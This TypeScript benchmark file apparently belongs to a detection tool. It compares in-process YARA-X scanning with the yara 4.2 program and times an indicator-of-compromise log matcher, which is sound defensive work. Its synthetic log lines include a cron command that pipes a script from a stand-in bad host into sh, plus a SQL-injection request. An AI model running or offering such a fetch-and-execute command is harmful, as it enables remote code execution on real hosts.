import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promises as fsp } from 'node:fs';
import path from 'node:path';
import { iocLogMatcher, loadIndicators } from '../src/detect/ioc/index.js';
import { loadYaraRules } from '../src/detect/yara/index.js';
import type { YaraTarget } from '../src/detect/yara/scanner.js';
import { Host } from '../src/host/host.js';
import { MiB, prng } from './lib/data.js';
import { MB, REPO, WORK, envInt, fmt, median, mustRun, run, saveResult, table, waitQuiet, warm } from './lib/measure.js';

/**
 * The YARA engine decision (docs/decisions.md): YARA-X in process through
 * @litko/yara-x, as goldhour runs it (src/detect/yara), against Debian's yara
 * 4.2 program on the same rules and files.
 *
 *   data:  BENCH_YARA_MIB (500) MiB of files (under BENCH_DIR/yara, removed at the end unless BENCH_KEEP=1): two thirds in 4 MiB files (the
 *          size of dropped executables), the rest in files of 0-200 KiB (scripts,
 *          configs), mixed random, zero and text content; every 50th holds a
 *          planted marker.
 *   rules: 100 generated rules in the shapes public rule sets use (text strings
 *          with nocase/wide, hex strings with jumps and wildcards, regular
 *          expressions, uint32(0) and "2 of them" conditions) plus the marker rule.
 *
 * Figures: start-up (load the engine, compile the rules), throughput over the
 * files (wall and CPU seconds, since other work on a shared machine stretches
 * wall time), and one process's memory. The (file, rule) pairs both engines
 * report must be equal, or the run fails.
 *
 * The same run measures --ioc's matcher, the other half of issue 4's
 * indicator matching: loading 100,000 indicators and matching
 * BENCH_IOC_LINES (1,000,000) auth, web and cron log lines against them.
 */
const YARA = '/usr/bin/yara';
const YARAC = '/usr/bin/yarac';
const DIR = path.join(WORK, 'yara');
const DATA = path.join(DIR, 'data');
const RULES_DIR = path.join(DIR, 'rules');
const RULES = path.join(RULES_DIR, 'bench.yar');
const MARKER = ['GOLDHOUR', 'BENCH', 'PLANTED'].join('-');

function benchRules(): string {
  const rnd = prng(7);
  const word = (n: number, alphabet = 'abcdefghijklmnopqrstuvwxyz_.-') => Array.from({ length: n }, () => alphabet[Math.floor(rnd() * alphabet.length)]).join('');
  const hex = (n: number) => Array.from({ length: n }, () => Math.floor(rnd() * 256).toString(16).padStart(2, '0')).join(' ');
  let out = '';
  for (let i = 0; i < 100; i++) {
    const k = i % 10;
    const s: string[] = [];
    if (k < 5) s.push(`$a = "${word(10)}"`, `$b = "${word(12)}" nocase`, `$c = "${word(8)}" ascii wide`);
    else if (k < 8) s.push(`$a = { ${hex(4)} [2-6] ${hex(3)} ?? ${hex(2)} }`, `$b = { ${hex(8)} }`);
    else s.push(`$a = /${word(5, 'abcdefghij')}[0-9]{2,4}${word(4, 'klmnopqrst')}/`, `$b = "${word(9)}"`);
    const cond = k === 3 ? 'uint32(0) == 0x464c457f and any of them' : k === 6 ? '2 of them' : 'any of them';
    out += `rule r${i} : bench { meta: n = ${i} strings: ${s.join(' ')} condition: ${cond} }\n`;
  }
  return `${out}rule planted : marker { strings: $m = "${MARKER}" condition: $m }\n`;
}

async function ensureData(totalMiB: number): Promise<number> {
  const done = path.join(DIR, `data-${totalMiB}.done`);
  if ((await fsp.readFile(done, 'utf8').catch(() => null)) !== null) return (await fsp.readdir(DATA)).length;
  await fsp.rm(DIR, { recursive: true, force: true });
  await fsp.mkdir(DATA, { recursive: true });
  process.stderr.write(`generating ${totalMiB} MiB of files in ${DATA} …\n`);
  const rnd = prng(11);
  const words = 'the of and to in process user root session kernel cron systemd ssh key login failed GET POST /usr/bin 10.0.0.1 0x7f'.split(' ');
  const text = Buffer.from(Array.from({ length: 400_000 }, () => words[Math.floor(rnd() * words.length)]).join(' '));
  let total = 0;
  let i = 0;
  const make = async (size: number) => {
    const parts: Buffer[] = [];
    for (let n = 0; n < size; ) {
      const c = Math.min(size - n, 256 * 1024);
      const k = Math.floor(rnd() * 10);
      parts.push(k < 4 ? randomBytes(c) : k < 6 ? Buffer.alloc(c) : text.subarray(0, c));
      n += c;
    }
    const b = Buffer.concat(parts);
    if (i % 50 === 0 && b.length > MARKER.length) b.write(MARKER, Math.floor(b.length / 2));
    await fsp.writeFile(path.join(DATA, `f${String(i++).padStart(5, '0')}`), b);
    total += size;
  };
  while (total < (totalMiB * MiB * 2) / 3) await make(4 * MiB);
  while (total < totalMiB * MiB) await make(Math.floor(200 * 1024 * rnd() ** 2) + 1);
  await fsp.writeFile(done, String(i));
  return i;
}

/** Wall and CPU seconds of a program run under /usr/bin/time, and its stdout. */
async function timedProgram(cmd: string, args: string[]): Promise<{ wall: number; cpu: number; stdout: string }> {
  const r = await run('/usr/bin/time', ['-f', '%e %U %S', cmd, ...args]);
  if (r.code !== 0) throw new Error(`${cmd} exited ${r.code}: ${r.stderr.slice(-300)}`);
  const [wall, user, sys] = r.stderr.trim().split('\n').at(-1)!.split(' ').map(Number);
  return { wall: wall!, cpu: user! + sys!, stdout: r.stdout };
}

/** Engine load and rule compilation in a fresh process, as a triage pays them once. */
async function yaraxStartup(): Promise<{ loadMs: number; compileMs: number }> {
  const script = `const source = (await import('node:fs')).readFileSync(${JSON.stringify(RULES)}, 'utf8');
const t0 = performance.now(); const { compile } = (await import(${JSON.stringify(path.join(REPO, 'node_modules/@litko/yara-x/index.js'))})).default;
const t1 = performance.now(); compile(source); const t2 = performance.now();
console.log(JSON.stringify({ loadMs: t1 - t0, compileMs: t2 - t1 }));`;
  const r = await mustRun(process.execPath, ['--input-type=module', '-e', script]);
  return JSON.parse(r.stdout) as { loadMs: number; compileMs: number };
}

async function goldhourScan(files: string[]): Promise<{ wall: number; cpu: number; pairs: string[] }> {
  const host = await Host.open();
  const { scanner } = await loadYaraRules(RULES_DIR);
  const targets: YaraTarget[] = files.map((f) => ({ kind: 'file', path: f }));
  const pairs: string[] = [];
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  for await (const h of scanner.scan(host, targets)) pairs.push(`${path.basename(String(h.evidence.path))} ${h.evidence.rule}`);
  const wall = (performance.now() - t0) / 1000;
  const cpu = process.cpuUsage(cpu0);
  return { wall, cpu: (cpu.user + cpu.system) / 1e6, pairs: pairs.sort() };
}

function yaraPairs(stdout: string): string[] {
  return stdout
    .split('\n')
    .filter(Boolean)
    .map((l) => {
      const [rule, file] = l.split(' ');
      return `${path.basename(file!)} ${rule}`;
    })
    .sort();
}

async function memoryFigures(): Promise<{ goldhourS: number; goldhourMB: number; yaraS: number; yaraMatched: boolean; goldhourMatched: boolean }> {
  const child = spawn(process.execPath, ['-e', `globalThis.k = Buffer.from(${JSON.stringify(MARKER.split(''))}.join('')); process.stdout.write('ready\\n'); setInterval(() => {}, 1e6)`], { stdio: ['ignore', 'pipe', 'inherit'] });
  try {
    await new Promise((r) => child.stdout.once('data', r));
    const host = await Host.open();
    const { scanner } = await loadYaraRules(RULES_DIR);
    const t0 = performance.now();
    let bytes = 0;
    let goldhourMatched = false;
    for await (const h of scanner.scan(host, [{ kind: 'memory', pid: child.pid!, exe: null }])) {
      bytes = Number(h.evidence.bytesScanned);
      goldhourMatched ||= h.evidence.rule === 'planted';
    }
    const goldhourS = (performance.now() - t0) / 1000;
    const y = await timedProgram(YARA, ['-w', RULES, String(child.pid)]);
    return { goldhourS, goldhourMB: bytes / MB, yaraS: y.wall, yaraMatched: /^planted /m.test(y.stdout), goldhourMatched };
  } finally {
    child.kill('SIGKILL');
  }
}

/** 100,000 indicators of every kind but URLs (which match only inside a line's URLs) and lines like a busy host's logs. */
async function iocFigures(lineCount: number): Promise<{ loadS: number; heapMB: number; wallS: number; cpuS: number; hits: number }> {
  const list: string[] = [];
  for (let i = 0; i < 20_000; i++) {
    list.push(`10.${(i >> 8) & 255}.${i & 255}.7`, `host${i}.bad.example`, i.toString(16).padStart(64, '0'), `172.${16 + (i >> 12)}.${(i >> 4) & 255}.${(i & 15) * 16}/28`, `dropper${i}`);
  }
  const heap0 = process.memoryUsage().heapUsed;
  const t0 = performance.now();
  const { indicators } = loadIndicators(Buffer.from(list.join('\n')), 'bench.txt');
  const loadS = (performance.now() - t0) / 1000;
  const heapMB = (process.memoryUsage().heapUsed - heap0) / MB;
  const lines = [
    'Nov 23 09:00:01 web sshd[1234]: Failed password for invalid user admin from 203.0.113.45 port 51234 ssh2',
    'Nov 23 09:00:02 web sshd[1234]: Accepted publickey for deploy from 10.1.2.7 port 40022 ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG',
    '198.51.100.7 - - [23/Nov/2026:09:01:00 +0000] "GET /index.php?id=1%27%20OR%201=1 HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
    'Nov 23 09:00:03 web CRON[999]: (root) CMD (curl -fsSL http://host17.bad.example/x.sh | sh)',
  ];
  const m = iocLogMatcher(indicators);
  await waitQuiet();
  const cpu0 = process.cpuUsage();
  const t1 = performance.now();
  for (let i = 0; i < lineCount; i++) m.line(lines[i & 3]!, { path: '/var/log/auth.log', line: i + 1 });
  const wallS = (performance.now() - t1) / 1000;
  const cpu = process.cpuUsage(cpu0);
  return { loadS, heapMB, wallS, cpuS: (cpu.user + cpu.system) / 1e6, hits: m.finish().length };
}

export async function yaraBench(): Promise<void> {
  const totalMiB = envInt('BENCH_YARA_MIB', 500);
  const rounds = envInt('BENCH_RUNS', 3);
  const count = await ensureData(totalMiB);
  await fsp.mkdir(RULES_DIR, { recursive: true });
  await fsp.writeFile(RULES, benchRules());
  const files = (await fsp.readdir(DATA)).sort().map((f) => path.join(DATA, f));
  const bytes = (await Promise.all(files.map((f) => fsp.stat(f)))).reduce((n, s) => n + s.size, 0);
  const compiled = path.join(DIR, 'bench.yarc');
  await mustRun(YARAC, ['-w', RULES, compiled]);
  const version = (await mustRun(YARA, ['--version'])).stdout.trim();
  await warm([DATA]);

  const rows: Record<string, number>[] = [];
  for (let r = 1; r <= rounds; r++) {
    const busy = await waitQuiet();
    const startX = await yaraxStartup();
    // spawn to exit, timed here: /usr/bin/time counts in hundredths of a second
    const startY = await mustRun(YARA, ['-w', RULES, '/dev/null']);
    const startYc = await mustRun(YARA, ['-w', '-C', compiled, '/dev/null']);
    const gh = await goldhourScan(files);
    const y1 = await timedProgram(YARA, ['-w', '-p', '1', '-r', RULES, DATA]);
    const yN = await timedProgram(YARA, ['-w', '-r', RULES, DATA]);
    const theirs = yaraPairs(y1.stdout);
    if (JSON.stringify(gh.pairs) !== JSON.stringify(theirs)) throw new Error(`goldhour and yara disagree: ${gh.pairs.length} vs ${theirs.length} (file, rule) pairs`);
    const row = {
      busy,
      xLoadMs: startX.loadMs,
      xCompileMs: startX.compileMs,
      yStartMs: startY.ms,
      yStartCompiledMs: startYc.ms,
      ghWallMBs: bytes / MB / gh.wall,
      ghCpuMBs: bytes / MB / gh.cpu,
      y1WallMBs: bytes / MB / y1.wall,
      y1CpuMBs: bytes / MB / y1.cpu,
      yNWallMBs: bytes / MB / yN.wall,
      matches: gh.pairs.length,
    };
    rows.push(row);
    console.error(
      `round ${r}/${rounds}: goldhour ${fmt(row.ghWallMBs)} MB/s wall, ${fmt(row.ghCpuMBs)} MB/s CPU; yara -p1 ${fmt(row.y1WallMBs)} wall, ${fmt(row.y1CpuMBs)} CPU; yara threads ${fmt(row.yNWallMBs)} (cpu busy before ${(busy * 100).toFixed(0)}%)`,
    );
  }
  const mem = await memoryFigures();
  const med = (k: string) => median(rows.map((r) => r[k]!));

  console.log(`\nYARA: ${count} files, ${fmt(bytes / MB)} MB, 101 rules; @litko/yara-x 0.3.0 (YARA-X) vs ${version}; ${rounds} rounds, median`);
  table(
    ['measure', 'goldhour (YARA-X in process)', `yara ${version}`],
    [
      ['engine load (fresh process), ms', fmt(med('xLoadMs')), '-'],
      ['compile 101 rules, ms', fmt(med('xCompileMs')), '-'],
      ['run on /dev/null: spawn, compile, scan, exit, ms', '-', fmt(med('yStartMs'))],
      ['the same with rules precompiled by yarac, ms', '-', fmt(med('yStartCompiledMs'))],
      ['files, MB/s wall (one thread)', fmt(med('ghWallMBs')), fmt(med('y1WallMBs'))],
      ['files, MB/s of CPU time', fmt(med('ghCpuMBs')), fmt(med('y1CpuMBs'))],
      ['files, MB/s wall (yara default threads)', '-', fmt(med('yNWallMBs'))],
      ['(file, rule) matches', String(med('matches')), 'same set'],
      [`one node process's memory, s (${fmt(mem.goldhourMB)} MB read)`, fmt(mem.goldhourS, 2), fmt(mem.yaraS, 2)],
      ['memory marker found', String(mem.goldhourMatched), String(mem.yaraMatched)],
    ],
  );
  const lineCount = envInt('BENCH_IOC_LINES', 1_000_000);
  const ioc = await iocFigures(lineCount);
  console.log(`\nIOC matching: 100,000 indicators, ${fmt(lineCount)} log lines`);
  table(
    ['measure', 'value'],
    [
      ['load 100,000 indicators, s', fmt(ioc.loadS, 2)],
      ['heap held by them, MB', fmt(ioc.heapMB)],
      [`match ${fmt(lineCount)} lines, s wall`, fmt(ioc.wallS, 1)],
      [`match ${fmt(lineCount)} lines, s CPU`, fmt(ioc.cpuS, 1)],
      ['µs of CPU per line', fmt((ioc.cpuS * 1e6) / lineCount, 1)],
      ['findings (one per indicator and log)', String(ioc.hits)],
    ],
  );
  const file = await saveResult('yara', { version, count, bytes, rounds: rows, memory: mem, ioc });
  console.log(`saved ${file}`);
  if (process.env.BENCH_KEEP !== '1') await fsp.rm(DIR, { recursive: true, force: true });
}
